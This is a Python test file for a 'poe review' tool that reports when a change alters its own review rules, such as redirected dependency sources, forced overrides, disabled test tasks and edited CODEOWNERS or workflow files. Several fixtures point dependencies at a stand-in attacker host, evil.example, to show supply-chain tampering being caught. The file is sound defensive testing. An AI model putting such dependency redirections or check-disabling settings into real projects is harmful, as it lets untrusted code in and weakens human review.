"""`poe review` shows what a change does to the rules of its own review."""

import re
from pathlib import Path

import pytest
from reviewed import Review, commit

from template import git


def sourced(project: Path, rev: str) -> dict[str, str]:
    """Return settings in which the common code comes from another revision."""
    text = (project / "pyproject.toml").read_text("utf-8")
    return {"pyproject.toml": re.sub('rev = ".*"', f'rev = "{rev}"', text)}


def test_another_source_of_common_code_is_shown(branch: Path, review: Review) -> None:
    commit(branch, sourced(branch, "main"))
    _, summary = review()
    assert "| Rules | look | pyproject.toml: common code comes from git file" in summary
    assert "rev main now, and came from git file" in summary


@pytest.mark.parametrize(
    "change",
    [
        'override-dependencies = ["twobus @ git+https://evil.example/x"]',
        'constraint-dependencies = ["twobus==9"]',
        'override-dependencies = ["Twobus @ git+https://evil.example/x"]',
    ],
)
def test_common_code_that_is_forced_is_shown(
    change: str, branch: Path, review: Review
) -> None:
    text = (branch / "pyproject.toml").read_text("utf-8")
    text = text.replace("[tool.uv]\n", f"[tool.uv]\n{change}\n")
    commit(branch, {"pyproject.toml": text})
    assert "by force twobus" in review()[1].lower()


def test_another_source_in_the_folded_lock_is_shown(
    branch: Path, review: Review
) -> None:
    lock = '[[package]]\nname = "twobus"\nversion = "1"\nsource = {{ git = "{}" }}\n'
    commit(branch, {"uv.lock": lock.format("https://git.acme.example/twobus#1")})
    git("update-ref", "refs/remotes/origin/main", "HEAD", cwd=branch)
    commit(branch, {"uv.lock": lock.format("https://evil.example/twobus#1")})
    assert "uv.lock: common code comes from git https://evil" in review()[1]


@pytest.mark.parametrize(
    "setting",
    [
        '[tool.poe.tasks.test]\ncmd = "true"\n',
        '[tool.pytest_env]\nDATA_URL = "duckdb://"\n',
        "[tool.ruff]\nextend-exclude = ['src']\n",
    ],
)
def test_settings_of_checks_are_pointed_at(
    setting: str, branch: Path, review: Review
) -> None:
    text = (branch / "pyproject.toml").read_text("utf-8")
    table = setting.partition("\n")[0]
    text = text.replace(f'{table}\nDATA_URL = "samples"\n', "")
    commit(branch, {"pyproject.toml": f"{text}\n{setting}"})
    name = setting[len("[tool.") :].split(".")[0].partition("]")[0]
    assert f"\\[tool.{name}\\] in pyproject.toml" in review()[1].replace("\\_", "_")


def test_a_dependency_of_ones_own_touches_no_rule(branch: Path, review: Review) -> None:
    text = (branch / "pyproject.toml").read_text("utf-8")
    text = text.replace('  "pandas>=2.3",\n', '  "pandas>=2.3",\n  "polars>=1",\n')
    commit(branch, {"pyproject.toml": text})
    assert "| Rules |" not in review()[1]


def test_a_second_source_in_the_lock_is_shown(branch: Path, review: Review) -> None:
    lock = '[[package]]\nname = "twobus"\nversion = "1"\nsource = {{ git = "{}" }}\n'
    ours = lock.format("https://git.acme.example/twobus#1")
    commit(branch, {"uv.lock": ours})
    git("update-ref", "refs/remotes/origin/main", "HEAD", cwd=branch)
    commit(branch, {"uv.lock": ours + lock.format("https://evil.example/twobus#1")})
    assert "git https://evil.example/twobus" in unescaped(review()[1])


def test_an_extra_that_names_a_source_is_shown(branch: Path, review: Review) -> None:
    text = (branch / "pyproject.toml").read_text("utf-8")
    extra = 'evil = ["twobus @ git+https://evil.example/x"]'
    table = "[project.optional-dependencies]\n"
    commit(branch, {"pyproject.toml": text.replace(table, f"{table}{extra}\n")})
    assert "evil.example/x now, and came from" in unescaped(review()[1])


@pytest.mark.parametrize(
    "name",
    [
        ".pre-commit-config.yaml",
        "ruff.toml",
        "src/.ruff.toml",
        "pytest.ini",
        "mypy.ini",
        "poe_tasks.toml",
        "uv.toml",
        "twobus.py",
        "twobus/__init__.py",
        "CODEOWNERS",
        ".github/workflows/own.yml",
    ],
)
def test_files_that_decide_on_checks_are_pointed_at(
    name: str, branch: Path, review: Review
) -> None:
    commit(branch, {name: "# \n"})
    said = f"this changes what reviews rest on: {name} |"
    assert said in unescaped(review()[1])


@pytest.mark.parametrize("name", ["src/owned/twobus_like.py", "docs/ruff.md"])
def test_other_files_touch_no_rule(name: str, branch: Path, review: Review) -> None:
    commit(branch, {name: "# \n"})
    assert "| Rules |" not in review()[1]


def unescaped(summary: str) -> str:
    """Return the summary as a reader sees it."""
    return summary.replace("\\", "")
